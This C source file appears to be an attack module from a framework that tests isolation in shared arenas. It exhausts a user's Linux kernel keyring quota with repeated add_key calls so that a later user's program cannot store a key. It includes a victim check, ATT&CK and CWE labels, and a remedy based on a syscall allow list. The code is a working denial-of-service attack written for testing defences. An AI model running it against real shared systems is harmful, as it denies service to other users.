// SPDX-License-Identifier: MIT
/*
 * key-quota.c - two hundred keys to nothing.
 *
 * Goal: the next student's honest program cannot keep a key.
 * Means: kernel.keys.maxkeys, 200 by default, bounds the keys of a user, over all processes and
 * namespaces. They are in the user's keyring and stay when their maker is dead. The quota goes by
 * the machine's uid, so this is for arenas whose ids are nobody else's.
 */
#include "attacks/attack.h"
#include "attacks/ipc-residue/keyring.h"

#include <errno.h>
#include <stdio.h>

#define MOST 256 /* a little beyond the default */

static enum claim run(const struct brief *b)
{
	char name[64];
	int made = 0;
	long key;

	attempting(b);
	do {
		snprintf(name, sizeof(name), "%s-%d", b->name, made);
		key = key_add(name, "x");
	} while (key >= 0 && ++made < MOST);
	if (!made)
		return denied("add_key");
	return key < 0 && errno == EDQUOT ? CLAIM_DONE : failed("a larger quota");
}

/* Keeps a ticket, as Kerberos does; where keys are denied by policy, it goes without. */
static enum claim victim(const struct brief *b)
{
	return key_add("ticket", b->secret) < 0 && errno == EDQUOT ? failed("add_key") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student cannot keep a key",
	.means = "add_key(2) until the user's quota is used up",
	.oracle = "victim",
	.scene = SCENE_BEFORE_VICTIM,
	.needs = NEED_KEYS | NEED_IDS,
	.attack_id = "T1499.001, CWE-770, CWE-459",
	.remedy = "an allow list of system calls without add_key, keyctl and request_key",
	.refs = (const char *const[]){ "keyrings(7), maxkeys", NULL },
	.run = run,
	.victim = victim,
};
